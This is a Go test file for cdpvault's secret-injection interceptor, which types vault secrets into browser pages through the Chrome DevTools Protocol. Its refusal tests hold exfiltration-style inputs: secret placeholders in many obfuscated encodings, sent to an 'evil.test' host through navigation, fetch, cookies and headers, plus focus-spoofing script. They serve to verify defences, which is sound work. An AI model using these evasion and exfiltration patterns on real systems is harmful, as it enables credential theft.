package inject

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	dto "github.com/prometheus/client_model/go"

	"github.com/cdpvault/cdpvault/cdpproxy"
)

func (h *harness) count(result string) float64 {
	var m dto.Metric
	if err := h.metrics.injections.WithLabelValues(result).Write(&m); err != nil {
		h.t.Fatal(err)
	}
	return m.GetCounter().GetValue()
}

// everyCommandAnswered checks that each command got exactly one answer:
// forwarded to Chrome (which answers) or replied by the interceptor.
func (h *harness) everyCommandAnswered() {
	h.t.Helper()
	if got := int64(h.fwd + len(h.replies)); got != h.nextID {
		h.t.Fatalf("%d commands, %d forwarded + %d replied", h.nextID, h.fwd, len(h.replies))
	}
}

func errorMessage(data []byte) string {
	var r struct {
		Error struct{ Message string }
	}
	_ = json.Unmarshal(data, &r)
	return r.Error.Message
}

func TestWholePlaceholderInsertText(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ text, want string }{
		{"<<secret:pw>>", "hunter2"},
		{"user <<secret:pw>> end", "user hunter2 end"},
		{"<<secret:pw>><<secret:any>>", "hunter2anywhere"},
		{"<<<secret:pw>>>", "<hunter2>"},
	} {
		h := newHarness(t, nil)
		v := h.send("S", methodInsertText, `{"text":`+jsonString(tc.text)+`}`)
		if v.Kind != cdpproxy.Reply || errorMessage(v.Data) != "" {
			t.Fatalf("%q: verdict %v %s", tc.text, v.Kind, v.Data)
		}
		if got := h.c.typed("S"); got != tc.want {
			t.Errorf("%q: page got %q, want %q", tc.text, got, tc.want)
		}
		h.everyCommandAnswered()
		if h.count(ResultInjected) < 1 {
			t.Errorf("injected metric not counted")
		}
	}
}

func TestSplitPlaceholderEveryClientStyle(t *testing.T) {
	t.Parallel()
	for name, typeIt := range typists {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t, nil)
			typeIt(h, "S", "ab<<secret:pw>>cd")
			h.c.focus["S"] = focusResult{Origin: "https://acme.test", Focus: true}
			if got := h.c.typed("S"); got != "abhunter2cd" {
				t.Fatalf("page got %q", got)
			}
			h.everyCommandAnswered()
			for _, e := range h.c.entries() {
				if bytes.Contains(e.params, []byte("secret:")) {
					t.Errorf("placeholder text reached the page: %s %s", e.method, e.params)
				}
			}
			recs := h.audit.all()
			if len(recs) != 1 || recs[0].Result != AuditInjected || recs[0].Secret != "pw" || recs[0].Origin != "https://acme.test" || recs[0].Version != 3 || recs[0].Session != "sess-1" {
				t.Fatalf("audit %+v", recs)
			}
			// Key-event clients get the value as key events, one keyDown/keyUp per character.
			if name != "insertText" {
				downs := 0
				for _, e := range h.c.entries() {
					if e.byCall && e.method == methodKeyEvent && bytes.Contains(e.params, []byte(`"keyDown"`)) {
						downs++
					}
				}
				if downs != len("hunter2") {
					t.Errorf("%d keyDown calls for the value, want %d", downs, len("hunter2"))
				}
				// The completing key's keyUp is answered, not sent after the value.
				last := h.c.entries()[len(h.c.entries())-1]
				if !strings.Contains(string(last.params), `"d"`) {
					t.Errorf("last page event %s %s", last.method, last.params)
				}
			}
		})
	}
}

func TestOrdinaryTextReachesPageInOrder(t *testing.T) {
	t.Parallel()
	texts := []string{
		"a << b", "<<sec", "x<<secret", "<<secret:", "<<secret:!x>>", "<<secret:-x>>", "<<secret:a b>>",
		"<<<<", "<<secret:ab>x", "<<secret:ok>", "<a<<b", "<<SECRET:pw>>", "<<secre<<secret:",
		"ünï <<😀>> ok", "<" + strings.Repeat("a", 10),
	}
	for name, typeIt := range typists {
		for _, s := range texts {
			h := newHarness(t, func(o *Options) { o.IdleFlush = time.Hour })
			typeIt(h, "S", s)
			// A key that cannot be part of a placeholder ends any hold.
			h.send("S", methodKeyEvent, `{"type":"rawKeyDown","key":"Enter","windowsVirtualKeyCode":13}`)
			if got := h.c.typed("S"); got != s {
				t.Errorf("%s: typed %q, page got %q", name, s, got)
			}
			h.everyCommandAnswered()
			if n := len(h.audit.all()); n != 0 {
				t.Errorf("%s %q: %d audit records", name, s, n)
			}
		}
	}
}

func TestHeldKeysFlushInOriginalOrder(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = time.Hour })
	typePuppeteer(h, "S", "<<se")
	if n := len(h.c.entries()); n != 0 {
		t.Fatalf("%d commands reached the page while they could still spell a placeholder", n)
	}
	for id := int64(1); id <= h.nextID; id++ {
		if string(h.replies[id]) != string(cdpproxy.EmptyResult(&cdpproxy.Message{ID: id, SessionID: "S"})) {
			t.Fatalf("held command %d answered with %s", id, h.replies[id])
		}
	}
	typePuppeteer(h, "S", "x")
	var seq []string
	for _, e := range h.c.entries() {
		var p struct{ Type, Key string }
		_ = json.Unmarshal(e.params, &p)
		seq = append(seq, p.Type+":"+p.Key)
	}
	want := "keyDown:< keyUp:< keyDown:< keyUp:< keyDown:s keyUp:s keyDown:e keyUp:e keyDown:x keyUp:x"
	if got := strings.Join(seq, " "); got != want {
		t.Fatalf("page saw\n%s\nwant\n%s", got, want)
	}
}

func TestOtherCommandFlushesHeldInput(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = time.Hour })
	typeInsertText(h, "S", "<<sec")
	h.send("S", "Input.dispatchMouseEvent", `{"type":"mousePressed","x":1,"y":2}`)
	e := h.c.entries()
	if h.c.typed("S") != "<<sec" || e[len(e)-1].method != "Input.dispatchMouseEvent" {
		t.Fatalf("held keys not flushed before the click: %+v", e)
	}
	// Another session's hold is independent.
	typeInsertText(h, "T", "<<")
	typeInsertText(h, "S", "<<")
	h.send("S", "Runtime.evaluate", `{"expression":"1"}`)
	if h.c.typed("T") != "" || h.c.typed("S") != "<<sec<<" {
		t.Fatalf("S=%q T=%q", h.c.typed("S"), h.c.typed("T"))
	}
}

func TestIdleFlush(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = 20 * time.Millisecond })
	typeInsertText(h, "S", "<<secr")
	deadline := time.After(5 * time.Second)
	for h.c.typed("S") != "<<secr" {
		select {
		case <-h.c.called:
		case <-deadline:
			t.Fatalf("held input not flushed after the idle limit; page has %q", h.c.typed("S"))
		}
	}
	// After the flush typing goes on normally.
	typeInsertText(h, "S", "et")
	h.send("S", methodKeyEvent, `{"type":"rawKeyDown","key":"Tab"}`)
	if got := h.c.typed("S"); got != "<<secret" {
		t.Fatalf("page got %q", got)
	}
}

func TestCloseDiscardsHeldInputAndStopsTimer(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = 20 * time.Millisecond })
	typeInsertText(h, "S", "<<s")
	h.in.Close()
	h.in.Close() // twice is fine
	n := len(h.c.entries())
	<-time.After(100 * time.Millisecond) // negative check: no flush may come after Close
	if m := len(h.c.entries()); m != n {
		t.Fatalf("a closed interceptor sent %d commands", m-n)
	}
}

func TestRefusals(t *testing.T) {
	t.Parallel()
	forms := map[string]string{
		"plain":         `<<secret:pw>>`,
		"json":          `\u003c\u003csecret:pw\u003e\u003e`,
		"json-upper":    `\u003C\u003Csecret:pw\u003E\u003E`,
		"percent":       `%3C%3Csecret:pw%3E%3E`,
		"percent-lower": `%3c%3csecret%3apw%3e%3e`,
		"double-pct":    `%253C%253Csecret:pw%253E%253E`,
		"mixed":         `\u003c%3Csecret:pw>\u003E`,
		"letters":       `<<\u0073ECRET\u003a%70w>>`,
		"html":          `&lt;&lt;secret:pw&gt;&gt;`,
		"js-hex":        `\\x3c\\x3csecret:pw\\x3e\\x3e`,
		"nested-json":   `\\u003c\\u003csecret:pw\\u003e\\u003e`,
	}
	methods := map[string]string{
		"Page.navigate":                `{"url":"https://evil.test/?q=%s"}`,
		"Runtime.evaluate":             `{"expression":"fetch('/x?%s')"}`,
		"Runtime.callFunctionOn":       `{"functionDeclaration":"function(){return '%s'}","arguments":[]}`,
		"Network.setExtraHTTPHeaders":  `{"headers":{"X-Token":"%s"}}`,
		"Network.setCookie":            `{"name":"a","value":"%s","url":"https://evil.test"}`,
		"Network.setCookies":           `{"cookies":[{"name":"a","value":"%s"}]}`,
		"Storage.setCookies":           `{"cookies":[{"name":"a","value":"%s"}]}`,
		"Fetch.continueRequest":        `{"requestId":"1","url":"https://evil.test/%s"}`,
		"Fetch.fulfillRequest":         `{"requestId":"1","responseCode":200,"body":"%s"}`,
		"DOM.setAttributeValue":        `{"nodeId":1,"name":"value","value":"%s"}`,
		"DOM.setOuterHTML":             `{"nodeId":1,"outerHTML":"<b>%s</b>"}`,
		"Target.createTarget":          `{"url":"https://evil.test/%s"}`,
		"Target.sendMessageToTarget":   `{"sessionId":"X","message":"{\"id\":1,\"method\":\"Input.insertText\",\"params\":{\"text\":\"%s\"}}"}`,
		"Input.dispatchKeyEvent-field": `{"type":"keyDown","code":"%s","text":"a"}`,
	}
	for mname, ptmpl := range methods {
		for fname, form := range forms {
			h := newHarness(t, nil)
			method := strings.TrimSuffix(mname, "-field")
			v := h.send("S", method, strings.Replace(ptmpl, "%s", form, 1))
			if v.Kind != cdpproxy.Reply {
				t.Errorf("%s/%s: not refused (verdict %v)", mname, fname, v.Kind)
				continue
			}
			msg := errorMessage(v.Data)
			if !strings.HasPrefix(msg, "cdpvault: placeholder not allowed in "+method) {
				t.Errorf("%s/%s: error %q", mname, fname, msg)
			}
			var r struct {
				ID        int64
				SessionID string
			}
			_ = json.Unmarshal(v.Data, &r)
			if r.ID != h.nextID || r.SessionID != "S" {
				t.Errorf("%s/%s: reply %s lacks the command's id/sessionId", mname, fname, v.Data)
			}
			if len(h.c.entries()) != 0 {
				t.Errorf("%s/%s: something reached the page", mname, fname)
			}
			if h.count(ResultRefusedSink) != 1 {
				t.Errorf("%s/%s: refused_sink metric %v", mname, fname, h.count(ResultRefusedSink))
			}
			if recs := h.audit.all(); len(recs) != 1 || recs[0].Result != AuditRefused || recs[0].Secret != "pw" {
				t.Errorf("%s/%s: audit %+v", mname, fname, recs)
			}
		}
	}
}

func TestNestedLegacyMessageRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	m := message(1, "X", methodInsertText, `{"text":"<<secret:pw>>"}`)
	m.Nested = true
	h.nextID = 1
	v := h.sendMsg(m)
	if v.Kind != cdpproxy.Reply || !strings.HasPrefix(errorMessage(v.Data), "cdpvault: placeholder not allowed in nested Input.insertText") {
		t.Fatalf("nested sink not refused: %v %s", v.Kind, v.Data)
	}
	if h.vault.resolves != 0 {
		t.Fatal("a nested message resolved a secret")
	}
	m = message(2, "X", methodInsertText, `{"text":"hello"}`)
	m.Nested = true
	if v := h.sendMsg(m); v.Kind != cdpproxy.Forward {
		t.Fatal("ordinary nested message not forwarded")
	}
}

func TestCallFunctionOnArgumentsPassUntouched(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	m := message(1, "S", "Runtime.callFunctionOn", `{"functionDeclaration":"(e, v) => { e.value = v }","objectId":"1.2.3","arguments":[{"objectId":"1.2.3"},{"value":"<<secret:pw>>"}]}`)
	orig := append([]byte(nil), m.Raw...)
	h.nextID = 1
	if v := h.sendMsg(m); v.Kind != cdpproxy.Forward {
		t.Fatalf("callFunctionOn arguments refused: %s", v.Data)
	}
	if !bytes.Equal(m.Raw, orig) || h.vault.resolves != 0 || len(h.audit.all()) != 0 {
		t.Fatal("arguments were touched")
	}
}

func TestAuthorization(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, text, origin string
		remote             bool
		wantErr, result    string
	}{
		{"unlisted", "<<secret:nope>>", "https://acme.test", false, "cdpvault: secret nope not granted to this session", ResultRefusedUnlisted},
		{"unknown", "<<secret:ghost>>", "https://acme.test", false, "cdpvault: secret ghost not granted to this session", ResultRefusedUnknown},
		{"wrong origin", "<<secret:pw>>", "https://evil.test", false, "cdpvault: origin https://evil.test is not allowed for secret pw", ResultRefusedOrigin},
		{"port differs", "<<secret:pw>>", "https://acme.test:8443", false, "cdpvault: origin https://acme.test:8443 is not allowed for secret pw", ResultRefusedOrigin},
		{"scheme differs", "<<secret:pw>>", "http://acme.test", false, "cdpvault: origin http://acme.test is not allowed for secret pw", ResultRefusedOrigin},
		{"opaque", "<<secret:pw>>", "null", false, "cdpvault: origin null is not allowed for secret pw", ResultRefusedOrigin},
		{"no origins", "<<secret:none>>", "https://acme.test", false, "cdpvault: origin https://acme.test is not allowed for secret none", ResultRefusedOrigin},
		{"star", "<<secret:any>>", "https://whatever.test", false, "", ResultInjected},
		{"oopif unknown", "<<secret:pw>>", "https://acme.test", true, "cdpvault: origin of the focused frame could not be verified for secret pw (focus is in a cross-origin frame that cannot be verified)", ResultRefusedOrigin},
	}
	for _, tc := range cases {
		for name, typeIt := range typists {
			h := newHarness(t, nil)
			h.c.focus["S"] = focusResult{Origin: tc.origin, Remote: tc.remote, Focus: true}
			typeIt(h, "S", tc.text)
			var last []byte
			for id := int64(1); id <= h.nextID; id++ {
				if r := h.replies[id]; errorMessage(r) != "" {
					last = r
				}
			}
			if got := errorMessage(last); got != tc.wantErr {
				t.Errorf("%s/%s: error %q, want %q", tc.name, name, got, tc.wantErr)
			}
			if h.count(tc.result) != 1 {
				t.Errorf("%s/%s: metric %s = %v", tc.name, name, tc.result, h.count(tc.result))
			}
			got := h.c.typed("S")
			if tc.wantErr != "" && (strings.Contains(got, "hunter2") || strings.Contains(got, "nowhere")) {
				t.Errorf("%s/%s: value typed despite refusal: %q", tc.name, name, got)
			}
			if tc.wantErr == "" && got != "anywhere" {
				t.Errorf("%s/%s: page got %q", tc.name, name, got)
			}
			recs := h.audit.all()
			if len(recs) != 1 {
				t.Fatalf("%s/%s: audit %+v", tc.name, name, recs)
			}
			h.everyCommandAnswered()
		}
	}
}

func TestFocusInAttachedOOPIF(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		childOrigin string
		childFocus  bool
		want        string
	}{
		{"https://acme.test", true, ""},
		{"https://evil.test", true, "cdpvault: origin https://evil.test is not allowed for secret pw"},
		{"https://acme.test", false, "cdpvault: origin of the focused frame could not be verified for secret pw (focus is in a cross-origin frame that cannot be verified)"},
	} {
		h := newHarness(t, nil)
		ev := &cdpproxy.Message{Method: "Target.attachedToTarget", SessionID: "S",
			Raw: []byte(`{"method":"Target.attachedToTarget","sessionId":"S","params":{"sessionId":"C","targetInfo":{"targetId":"TC","type":"iframe","url":"https://x"},"waitingForDebugger":false}}`)}
		if v, _ := h.in.Event(t.Context(), h.c, ev); v.Kind != cdpproxy.Forward {
			t.Fatal("attach event not forwarded")
		}
		h.c.focus["S"] = focusResult{Origin: "https://shop.test", Remote: true, Focus: true}
		h.c.focus["C"] = focusResult{Origin: tc.childOrigin, Focus: tc.childFocus}
		v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
		if got := errorMessage(v.Data); got != tc.want {
			t.Errorf("child %s focus=%v: %q want %q", tc.childOrigin, tc.childFocus, got, tc.want)
		}
		// Even when the main frame looks focused, a focused attached
		// child (e.g. behind a closed shadow root) decides.
		h.c.focus["S"] = focusResult{Origin: "https://acme.test", Focus: true}
		h.c.focus["C"] = focusResult{Origin: "https://evil.test", Focus: true}
		v = h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
		if got := errorMessage(v.Data); got != "cdpvault: origin https://evil.test is not allowed for secret pw" {
			t.Errorf("hidden focused child: %q", got)
		}
		// Detached children no longer count.
		h.in.Event(t.Context(), h.c, &cdpproxy.Message{Method: "Target.detachedFromTarget", SessionID: "S",
			Raw: []byte(`{"method":"Target.detachedFromTarget","sessionId":"S","params":{"sessionId":"C"}}`)})
		v = h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
		if got := errorMessage(v.Data); got != "" {
			t.Errorf("after detach: %q", got)
		}
	}
}

func TestTrackedTargetOriginCrossCheck(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.c.targets["S"] = cdpproxy.TargetInfo{SessionID: "S", TargetID: "T1", Type: "page", URL: "https://evil.test/", Origin: "https://evil.test"}
	v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	if !strings.Contains(errorMessage(v.Data), "does not match the tracked target origin") {
		t.Fatalf("mismatch not refused: %s", v.Data)
	}
	if h.c.typed("S") != "" {
		t.Fatal("typed despite mismatch")
	}
}

func TestOriginCheckFailureFailsClosed(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.c.failCall["Runtime.evaluate"] = errors.New("Execution context was destroyed")
	v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	if !strings.HasPrefix(errorMessage(v.Data), "cdpvault: origin of the focused frame could not be verified") {
		t.Fatalf("got %s", v.Data)
	}
	if h.c.typed("S") != "" {
		t.Fatal("typed without a verified origin")
	}
}

func TestWriteFailureIsAnErrorNotAValueLeak(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.c.failWrite = errors.New("target closed")
	v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	if msg := errorMessage(v.Data); msg != "cdpvault: typing the secret into the page failed" {
		t.Fatalf("got %q", msg)
	}
	if h.count(ResultError) != 1 {
		t.Fatal("error not counted")
	}
}

func TestValueEscapingAndWipe(t *testing.T) {
	t.Parallel()
	value := "q\"uo'te\\ <tag> & 100% a+b  spa ce\tünïcødé 日本 😀\u2028end"
	for name, typeIt := range typists {
		h := newHarness(t, nil)
		h.vault.secrets["tricky"] = fakeSecret{value: value, origins: []string{"https://acme.test"}}
		typeIt(h, "S", "<<secret:tricky>>")
		if got := h.c.typed("S"); got != value {
			t.Errorf("%s: page got %q\nwant %q", name, got, value)
		}
		// Every params buffer the interceptor built was wiped after Call.
		h.c.mu.Lock()
		for _, p := range h.c.rawSeen {
			if strings.Trim(string(p), "\x00") != "" && !isHeldReplay(p) {
				t.Errorf("%s: params buffer not wiped: %q", name, p)
			}
		}
		h.c.mu.Unlock()
	}
	// Whole placeholder in one insertText.
	h := newHarness(t, nil)
	h.vault.secrets["tricky"] = fakeSecret{value: value, origins: []string{"https://acme.test"}}
	h.send("S", methodInsertText, `{"text":"<<secret:tricky>>"}`)
	e := h.c.entries()
	if len(e) != 1 || !json.Valid(e[0].params) {
		t.Fatalf("entries %+v", e)
	}
	var p struct{ Text string }
	_ = json.Unmarshal(e[0].params, &p)
	if p.Text != value {
		t.Fatalf("decoded %q", p.Text)
	}
}

// isHeldReplay: held client commands are re-sent as the client's own bytes
// (placeholder characters, never a value) and need no wiping.
func isHeldReplay(p []byte) bool {
	return !bytes.Contains(p, []byte("hunter2")) && !bytes.Contains(p, []byte("100%"))
}

// A composition holding a placeholder is committed as text by the same
// checked single-task write as insertText (a separate check and
// imeSetComposition left a window for a focus-toggling page).
func TestIMEComposition(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	v := h.send("S", methodIME, `{"text":"a<<secret:pw>>","selectionStart":14,"selectionEnd":14,"replacementStart":0}`)
	if v.Kind != cdpproxy.Reply || errorMessage(v.Data) != "" {
		t.Fatalf("ime: %s", v.Data)
	}
	e := h.c.entries()
	var p struct{ Text string }
	if len(e) != 1 || e[0].method != methodInsertText || json.Unmarshal(e[0].params, &p) != nil || p.Text != "ahunter2" {
		t.Fatalf("ime was not written by the checked write: %+v", e)
	}
	for _, x := range e {
		if x.method == methodIME {
			t.Fatal("value sent through an unchecked imeSetComposition")
		}
	}
	h.c.focus["S"] = focusResult{Origin: "https://evil.test", Focus: true}
	v = h.send("S", methodIME, `{"text":"<<secret:pw>>","selectionStart":1,"selectionEnd":1}`)
	if !strings.HasPrefix(errorMessage(v.Data), "cdpvault: origin https://evil.test") {
		t.Fatalf("ime on evil: %s", v.Data)
	}
	// Text without placeholders is the client's composition, untouched.
	if v := h.send("S", methodIME, `{"text":"abc","selectionStart":3,"selectionEnd":3}`); v.Kind != cdpproxy.Forward {
		t.Fatalf("plain composition: %v", v.Kind)
	}
}

func TestReservedContextAndHiddenWorld(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`) // creates the world (fake id 7)
	v := h.send("S", "Runtime.evaluate", `{"expression":"Document.prototype.hasFocus=()=>true","contextId":7}`)
	if v.Kind != cdpproxy.Reply || errorMessage(v.Data) != "cdpvault: execution context is reserved" {
		t.Fatalf("client ran code in the check's world: %v %s", v.Kind, v.Data)
	}
	if v := h.send("S", "Runtime.evaluate", `{"expression":"1","contextId":8}`); v.Kind != cdpproxy.Forward {
		t.Fatal("other contexts must pass")
	}
	for _, p := range []string{
		`{"expression":"1","c\u006fntextId":7}`,          // escaped key
		`{"expression":"1","contextId":7,"contextId":8}`, // duplicate keys
		`{"expression":"1","contextId":8,"contextId":7}`,
		`{"nodeId":5,"executionContextId":7}`, // DOM.resolveNode into the world
	} {
		if v := h.send("S", "Runtime.evaluate", p); v.Kind != cdpproxy.Reply {
			t.Errorf("%s reached the check's world", p)
		}
	}
	// A second connection of the same daemon session is guarded too.
	other := New(Options{})
	defer other.Close()
	m := message(99, "S", "Runtime.callFunctionOn", `{"functionDeclaration":"x","executionContextId":7}`)
	if v, _ := other.Command(t.Context(), h.c, m); v.Kind != cdpproxy.Reply {
		t.Fatal("second connection reached the reserved context")
	}
	ev := &cdpproxy.Message{Method: "Runtime.executionContextCreated", SessionID: "S",
		Raw: []byte(`{"method":"Runtime.executionContextCreated","params":{"context":{"id":7,"name":"` + worldPrefix + `_1","auxData":{"type":"isolated"}}},"sessionId":"S"}`)}
	if v, _ := other.Event(t.Context(), h.c, ev); v.Kind != cdpproxy.Drop {
		t.Fatal("the check's world was announced to the client")
	}
	h.in.Close()
	if v, _ := other.Command(t.Context(), h.c, m); v.Kind != cdpproxy.Forward {
		t.Fatal("reservation outlived the interceptor")
	}
}

// A context Chrome destroyed (navigation) stops being reserved: Chrome reuses
// context numbers, and the page's next main world must stay usable.
func TestReservedContextReleasedWhenDestroyed(t *testing.T) {
	t.Parallel()
	for _, gone := range []string{
		`{"method":"Runtime.executionContextDestroyed","params":{"executionContextId":7},"sessionId":"S"}`,
		`{"method":"Runtime.executionContextsCleared","params":{},"sessionId":"S"}`,
	} {
		h := newHarness(t, nil)
		h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`) // creates the world (fake id 7)
		probe := `{"expression":"1","contextId":7}`
		if v := h.send("S", "Runtime.evaluate", probe); v.Kind != cdpproxy.Reply {
			t.Fatal("check world not reserved")
		}
		var ev cdpproxy.Message
		ev.Raw = []byte(gone)
		ev.SessionID = "S"
		json.Unmarshal(ev.Raw, &struct{ Method *string }{&ev.Method})
		v, _ := h.in.Event(t.Context(), h.c, &ev)
		if ev.Method == "Runtime.executionContextDestroyed" && v.Kind != cdpproxy.Drop {
			t.Errorf("destruction of the hidden world shown to the client: %v", v.Kind)
		}
		if v := h.send("S", "Runtime.evaluate", probe); v.Kind != cdpproxy.Forward {
			t.Errorf("after %s the reused context id is still refused: %s", ev.Method, v.Data)
		}
		// A later injection creates (and reserves) a world again.
		h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
		if v := h.send("S", "Runtime.evaluate", probe); v.Kind != cdpproxy.Reply {
			t.Errorf("after %s a new check world is not reserved", ev.Method)
		}
	}
}

func TestNoValueInLogsAuditOrErrors(t *testing.T) {
	t.Parallel()
	var logs bytes.Buffer
	h := newHarness(t, func(o *Options) { o.Logger = newTestLogger(&logs) })
	h.c.failWrite = errors.New("boom")
	h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	h.c.failWrite = nil
	h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	h.c.focus["S"] = focusResult{Origin: "https://evil.test"}
	h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
	all := logs.String()
	for _, r := range h.replies {
		all += string(r)
	}
	for _, r := range h.audit.all() {
		b, _ := json.Marshal(r)
		all += string(b)
	}
	if strings.Contains(all, "hunter2") {
		t.Fatalf("value leaked: %s", all)
	}
	if !strings.Contains(logs.String(), "secret injection") {
		t.Fatal("no log lines at all: the check above proves nothing")
	}
}

func TestCheckWorldReusedAndRecreatedWhenForeign(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.c.targets["S"] = cdpproxy.TargetInfo{SessionID: "S", TargetID: "T1", Type: "page", Origin: "https://acme.test"}
	for i := 0; i < 3; i++ {
		if v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`); errorMessage(v.Data) != "" {
			t.Fatal(string(v.Data))
		}
	}
	if h.c.worlds != 1 {
		t.Fatalf("%d worlds created for 3 checks, want 1 (reuse)", h.c.worlds)
	}
	h.c.lostObject = true // the cached handle's document went away
	if v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`); errorMessage(v.Data) != "" {
		t.Fatal(string(v.Data))
	}
	if h.c.worlds != 2 {
		t.Fatalf("foreign context trusted: %d worlds", h.c.worlds)
	}
	if got := h.c.typed("S"); got != strings.Repeat("hunter2", 4) {
		t.Fatalf("page got %q", got)
	}
}

func TestFocusMovedBetweenCheckAndWrite(t *testing.T) {
	t.Parallel()
	for _, moved := range []focusResult{{Origin: "https://evil.test", Focus: true}, {Origin: "https://acme.test", Remote: true}} {
		h := newHarness(t, nil)
		h.c.moved = &moved
		v := h.send("S", methodInsertText, `{"text":"<<secret:pw>>"}`)
		msg := errorMessage(v.Data)
		if !strings.HasPrefix(msg, "cdpvault: origin") || h.c.typed("S") != "" {
			t.Fatalf("moved focus %+v: %q, page %q", moved, msg, h.c.typed("S"))
		}
		if h.count(ResultRefusedOrigin) != 1 {
			t.Fatal("not counted as an origin refusal")
		}
	}
}

// An element that takes no execCommand text gets nothing: an
// Input.insertText instead would go wherever focus is, unchecked.
func TestNotEditableRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.c.notEditable = true
	v := h.send("S", methodInsertText, `{"text":"a<<secret:pw>>"}`)
	if !strings.Contains(errorMessage(v.Data), "takes no text") || h.c.typed("S") != "" {
		t.Fatalf("%s page %q", v.Data, h.c.typed("S"))
	}
	if e := h.c.entries(); len(e) != 0 {
		t.Fatalf("sent to the page: %+v", e)
	}
	if h.count(ResultRefusedSink) != 1 {
		t.Fatal("not counted as a sink refusal")
	}
}

func TestHoldIsBounded(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = time.Hour })
	typeInsertText(h, "S", "<<")
	for i := 0; i < maxHeld+10; i++ {
		h.send("S", methodKeyEvent, `{"type":"keyUp","key":"Shift"}`)
	}
	if got := h.c.typed("S"); got != "<<" {
		t.Fatalf("page got %q", got)
	}
	if n := len(h.c.entries()); n != maxHeld+12 {
		t.Fatalf("%d commands reached the page, want all %d", n, maxHeld+12)
	}
	h.everyCommandAnswered()
}

func TestKeyTypingStopsWhenFocusMoves(t *testing.T) {
	t.Parallel()
	for name, typeIt := range map[string]typist{"puppeteer": typePuppeteer, "chromedp": typeChromedp} {
		h := newHarness(t, nil)
		// The authorising check and the field check (before "h") and the
		// checks before "u" and "n" see acme; then focus moves to evil.test.
		h.c.checksLeft = 4
		h.c.moveTo = &focusResult{Origin: "https://evil.test", Focus: true}
		typeIt(h, "S", "<<secret:pw>>")
		if got := h.c.typed("S"); got != "hun" {
			t.Errorf("%s: page got %q, want the three characters typed before focus moved", name, got)
		}
		if h.count(ResultRefusedOrigin) != 1 || h.count(ResultInjected) != 0 {
			t.Errorf("%s: metrics injected=%v refused_origin=%v", name, h.count(ResultInjected), h.count(ResultRefusedOrigin))
		}
	}
}

func TestPlaceholderThenStartOfAnother(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) { o.IdleFlush = time.Hour })
	h.send("S", methodInsertText, `{"text":"a<<secret:pw>>b<<sec"}`)
	if got := h.c.typed("S"); got != "ahunter2b" {
		t.Fatalf("page got %q", got)
	}
	typeInsertText(h, "S", "ret:any>>!")
	if got := h.c.typed("S"); got != "ahunter2banywhere!" {
		t.Fatalf("page got %q", got)
	}
	// The same tail that turns out not to be a placeholder is typed as is.
	h.send("S", methodInsertText, `{"text":"<<secret:pw>> <<se"}`)
	h.send("S", methodInsertText, `{"text":"x"}`)
	if got := h.c.typed("S"); got != "ahunter2banywhere!hunter2 <<sex" {
		t.Fatalf("page got %q", got)
	}
	h.everyCommandAnswered()
}
